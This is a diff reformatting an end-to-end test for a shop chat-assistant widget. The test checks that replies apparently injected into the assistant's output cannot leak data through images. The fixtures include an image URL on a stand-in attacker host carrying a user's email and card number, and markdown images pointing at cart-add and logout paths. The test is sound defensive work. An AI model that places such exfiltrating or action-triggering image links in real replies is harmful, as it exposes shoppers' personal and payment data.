@@ -12,14 +12,32 @@ import { PATIENCE_MS } from '../../support/patience';
 let session: E2eSession;
 let fixtures: FixtureServer;
 const storeHits: string[] = [];
-const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==', 'base64');
+const PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
+  'base64',
+);
 const LEAK = 'https://attacker.example/x.png?d=jane%40mail.example%204111111111111111';
 
-const FENCED = ['Here you go:', '', '```json', JSON.stringify({ products: [{ title: 'Injected', image: LEAK, url: 'https://shop.example/p' }] }), '```'].join('\n');
+const FENCED = [
+  'Here you go:',
+  '',
+  '```json',
+  JSON.stringify({ products: [{ title: 'Injected', image: LEAK, url: 'https://shop.example/p' }] }),
+  '```',
+].join('\n');
 const REPLIES: Record<string, unknown> = {
   fenced: { output: FENCED },
-  cards: { reply: 'Cards', products: [{ title: 'Remote', image: `${LEAK}&n=2` }, { title: 'Local', image: '/img/ok.png' }] },
-  pixels: { output: 'Pixels: ![cart](/cart/add?id=123&quantity=10) ![logout](/account/logout) ![fine](/img/ok.png) ![media](/media/banner)' },
+  cards: {
+    reply: 'Cards',
+    products: [
+      { title: 'Remote', image: `${LEAK}&n=2` },
+      { title: 'Local', image: '/img/ok.png' },
+    ],
+  },
+  pixels: {
+    output:
+      'Pixels: ![cart](/cart/add?id=123&quantity=10) ![logout](/account/logout) ![fine](/img/ok.png) ![media](/media/banner)',
+  },
 };
 
 beforeAll(async () => {
@@ -48,11 +66,22 @@ async function openWidget(attributes = '') {
     leaked.push(route.request().url());
     return route.abort();
   });
-  await opened.page.goto(fixtures.page(`/images-${Math.random().toString(36).slice(2)}`, widgetPage(`webhook-url="/img-hook" typing-speed="0" persist="none" ${attributes}`)));
+  await opened.page.goto(
+    fixtures.page(
+      `/images-${Math.random().toString(36).slice(2)}`,
+      widgetPage(`webhook-url="/img-hook" typing-speed="0" persist="none" ${attributes}`),
+    ),
+  );
   await opened.page.getByRole('button', { name: 'Ask a question' }).waitFor();
   const send = async (text: string) => {
     const before = await opened.page.locator('store-assistant .message.bot').count();
-    await opened.page.evaluate((message) => (document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean }).sendMessage(message), text);
+    await opened.page.evaluate(
+      (message) =>
+        (document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean }).sendMessage(
+          message,
+        ),
+      text,
+    );
     await opened.page.locator('store-assistant .message.bot').nth(before).waitFor();
   };
   return { ...opened, leaked, send };
@@ -64,10 +93,26 @@ describe('images in replies', () => {
     await send('fenced');
     await send('cards');
     await page.locator('store-assistant .product-card', { hasText: 'Local' }).locator('img').waitFor();
-    await expect.poll(() => page.locator('store-assistant .product-card img').evaluateAll((images) => images.every((image) => (image as HTMLImageElement).complete))).toBe(true);
+    await expect
+      .poll(() =>
+        page
+          .locator('store-assistant .product-card img')
+          .evaluateAll((images) => images.every((image) => (image as HTMLImageElement).complete)),
+      )
+      .toBe(true);
     expect(leaked).toEqual([]);
-    expect(await page.locator('store-assistant .product-card', { hasText: 'Injected' }).locator('.product-image-placeholder').count()).toBe(1);
-    expect(await page.locator('store-assistant .product-card', { hasText: 'Remote' }).locator('.product-image-placeholder').count()).toBe(1);
+    expect(
+      await page
+        .locator('store-assistant .product-card', { hasText: 'Injected' })
+        .locator('.product-image-placeholder')
+        .count(),
+    ).toBe(1);
+    expect(
+      await page
+        .locator('store-assistant .product-card', { hasText: 'Remote' })
+        .locator('.product-image-placeholder')
+        .count(),
+    ).toBe(1);
     // The store owner learns which host to add, once, however many images it refused.
     expect(consoleMessages.filter((message) => message.includes('attacker.example'))).toHaveLength(1);
     expect(consoleMessages.find((message) => message.includes('attacker.example'))).toMatch(/image-hosts/);
